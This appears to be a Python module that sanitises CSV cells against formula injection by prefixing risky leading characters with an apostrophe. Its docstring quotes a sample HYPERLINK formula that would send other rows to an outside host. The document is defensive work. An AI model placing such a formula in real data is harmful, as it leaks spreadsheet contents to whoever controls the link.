"""CSV files that are safe to open in a spreadsheet program.

A cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return is
taken as a formula by Excel and LibreOffice; a participant's name like
``=HYPERLINK("https://…?d="&A2)`` would then send the other rows away
(CSV injection). Every CSV the project writes goes through ``csv_writer``,
which puts an apostrophe in front of such cells (OWASP's advice). EFNs,
VNRs and ISO dates start with a digit and pass unchanged, so the format the
chamber's EIV reads stays exactly as it was (docs/chamber-export.md).
"""

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """The cell as text a spreadsheet shows but never evaluates."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose rows are neutralised cell by cell."""

    def __init__(self, writer: Any) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(buffer: Any, **options: Any) -> SafeWriter:
    """Like ``csv.writer(buffer, **options)``, safe for spreadsheets."""
    return SafeWriter(csv.writer(buffer, **options))
